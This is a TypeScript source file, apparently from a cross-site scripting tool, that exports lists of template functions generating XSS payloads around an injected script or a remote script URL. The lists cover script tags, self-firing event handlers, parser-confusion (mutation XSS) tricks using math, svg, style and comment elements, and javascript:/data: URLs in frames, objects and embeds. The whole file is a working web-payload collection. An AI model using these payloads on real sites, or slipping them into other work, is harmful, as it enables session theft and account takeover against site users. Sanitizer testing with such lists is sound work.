import type { Vector } from '../payload.ts'

/** Scripts by their element. */
export const SCRIPTS: Vector[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<ScRiPt>${run}</sCrIpT>`,
  ({ run }) => `<script/x>${run}</script>`,
  ({ run }) => `<script\n>${run}</script\n>`,
  ({ run }) => `<script type="module">${run}</script>`,
  ({ run }) => `<script type=text/javascript>${run}`,
  ({ from }) => `<script src=${from}></script>`,
  ({ from }) => `<script src="${from}" async defer></script>`,
  ({ run }) => `<script src="data:text/javascript,${run}"></script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `</script><script>${run}</script>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
  ({ from }) => `<svg><script xlink:href="${from}" /></svg>`,
  ({ run }) => `<script>//\n${run}\n</script>`,
  ({ run }) => `<script><!--\n${run}\n--></script>`,
  ({ run }) => `<noscript><p title="</noscript><script>${run}</script>">`,
  ({ run }) => `<math><script>${run}</script></math>`,
  ({ run }) => `<script nonce="" integrity="">${run}</script>`,
  ({ from }) => `<script type="importmap">{"imports":{"./main.js":"${from}"}}</script>`,
  ({ from }) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${from}"]}]}</script>`,
]

const ON_LOADING = ['img src=x', 'video src=x', 'audio src=x', 'input type=image src=x']
const BY_THEMSELVES: [string, string][] = [
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocusin'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['style', 'onload'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['img src=x loading=lazy', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg><image href=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['div style=animation:spin+1s', 'onanimationstart'],
  ['dialog open', 'ontoggle'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['p contenteditable', 'onbeforeinput'],
]
const BY_HAND = ['onclick', 'onmouseover', 'onpointerenter', 'onwheel', 'oncopy', 'onkeydown']

/** Scripts by the attributes of elements, however these are written. */
export const HANDLERS: Vector[] = [
  ...ON_LOADING.map<Vector>(
    (element) =>
      ({ run }) =>
        `<${element} onerror="${run}">`,
  ),
  ...BY_THEMSELVES.map<Vector>(
    ([element, event]) =>
      ({ run }) =>
        `<${element} ${event}="${run}">`,
  ),
  ...BY_HAND.map<Vector>(
    (event) =>
      ({ run, n }) =>
        `<b ${event}="${run}">touch ${n}</b>`,
  ),
  ({ run }) => `<img/src=x/onerror=${run}>`,
  ({ run }) => `<IMG SRC=x ONERROR=${run}>`,
  ({ run }) => `<img src=x\tonerror\n=\f"${run}"`,
  ({ run }) => `<img src=\`x\` onerror=${run}//>`,
  ({ run }) => `<img """><img src=x onerror=${run}>`,
  ({ run }) => `<img src=x:x onerror="${run}" alt='`,
  ({ run }) => `<<img src=x onerror=${run}>`,
  ({ run }) => `<img src=x onerror="${run}" onerror="1">`,
  ({ run }) => `<x onclick="${run}" autofocus tabindex=1 onfocus="${run}">`,
  ({ run }) => `<a href="#" onclick="${run}" onfocus="${run}" autofocus>a</a>`,
  ({ run }) => `<img src onerror="${run}"/>`,
  ({ run }) => `<svg/onload=${run}>`,
  ({ run }) => `<svg\u0020\u0020onload=${run}><`,
  ({ run }) => `<img alt="<" src=x title=">" onerror="${run}">`,
]

/** What one parser writes down harmlessly and another reads otherwise: foreign elements, raw text, comments. */
export const NAMESPACES: Vector[] = [
  ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
  ({ run }) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<svg><style><img src=x onerror="${run}"></style></svg>`,
  ({ run }) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  ({ run }) => `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  ({ run }) => `<svg><desc><img src=x onerror="${run}"></desc></svg>`,
  ({ run }) => `<svg><title><img src=x onerror="${run}"></title></svg>`,
  ({ run }) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  ({ run, n }) =>
    `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>${n}</text></a></svg>`,
  ({ run, n }) =>
    `<svg><a xlink:href="javascript:${run}"><circle r=9 /><text>${n}</text></a></svg>`,
  ({ run }) => `<svg><set onbegin="${run}" attributeName=x></svg>`,
  ({ run }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
  ({ run, n }) => `<math><mi href="javascript:${run}">${n}</mi></math>`,
  ({ run, n }) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">${n}`,
  ({ run }) => `<template><img src=x onerror="${run}"></template>`,
  ({ run }) => `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  ({ run }) => `<noscript><style></noscript><img src=x onerror="${run}">`,
  ({ run }) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  ({ run }) => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  ({ run }) => `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  ({ run }) => `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  ({ run }) => `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  ({ run }) => `<select><option><style></option></select><img src=x onerror="${run}"></style>`,
  ({ run }) => `<plaintext><img src=x onerror="${run}">`,
  ({ run }) => `<svg><![CDATA[><img src=x onerror="${run}">]]></svg>`,
  ({ run }) => `<![CDATA[<img src=x onerror="${run}">]]>`,
  ({ run }) => `<!--><img src=x onerror="${run}">-->`,
  ({ run }) => `<!--x--!><img src=x onerror="${run}">-->`,
  ({ run }) => `<!---><img src=x onerror="${run}">`,
  ({ run }) => `<? foo="><img src=x onerror=${run}>" ?>`,
  ({ run }) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run}>">]>&e;`,
  ({ run }) => `<table><td><p><table><img src=x onerror="${run}">`,
  ({ run }) => `<p id="</p><img src=x onerror=${run}>"><svg><p>`,
  ({ run }) => `<font color="<img src=x onerror=${run}>"><svg><font>`,
  ({ run }) => `<img src=x alt="]]>"><svg><mtext><img src=x onerror="${run}">`,
  ({ run }) => `<![if !IE]><img src=x onerror="${run}"><![endif]>`,
]

/** Other documents within the page. */
export const FRAMES: Vector[] = [
  ({ run }) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  ({ run }) => `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`,
  ({ run }) => `<iframe src="javascript:${run}"></iframe>`,
  ({ run }) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  ({ from }) => `<iframe src="${from}"></iframe>`,
  ({ from }) => `<iframe src="/frame/diagram.html" name="${from}"></iframe>`,
  ({ run }) => `<object data="javascript:${run}"></object>`,
  ({ run }) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  ({ from }) => `<object data="${from}" type="text/html"></object>`,
  ({ from }) => `<object><param name="movie" value="${from}"></object>`,
  ({ run }) => `<embed src="javascript:${run}">`,
  ({ from }) => `<embed src="${from}" allowscriptaccess=always>`,
  ({ run }) => `<frameset><frame src="javascript:${run}"></frameset>`,
  ({ from }) => `<portal src="${from}"></portal>`,
  ({ from }) => `<fencedframe src="${from}"></fencedframe>`,
  ({ run }) => `<iframe sandbox="allow-scripts" srcdoc="<script>${run}</script>"></iframe>`,
  ({ from }) => `<webview src="${from}"></webview>`,
  ({ from }) => `<applet codebase="${from}" code=x></applet>`,
  ({ run }) =>
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
]
